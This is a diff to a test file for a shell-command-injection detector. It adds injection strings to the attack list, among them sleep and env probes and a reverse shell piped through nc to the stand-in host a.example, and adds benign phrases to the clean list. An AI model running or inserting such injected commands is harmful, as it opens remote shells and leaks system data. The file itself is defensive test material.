@@ -2,6 +2,10 @@ import { testDetector } from "../../test/cases.ts";
 
 testDetector("shell", {
   attacks: [
+    "a;sleep 60;",
+    "a|sleep 9",
+    ["a|env", "short"],
+    "a|/bin/sh -i 2>&1|nc a.example 9",
     ";sleep 5",
     "&dir",
     "; id",
@@ -53,6 +57,9 @@ testDetector("shell", {
     ["a;cat /etc/group", { field: "host" }],
   ],
   clean: [
+    "sleep 8 hours; eat",
+    "a script that the system runs with /bin/sh does not",
+    "the path `/users/*` and `/path/**`",
     "ping pong table; net & paddles",
     ".net; java",
     "tea; fish & chips",
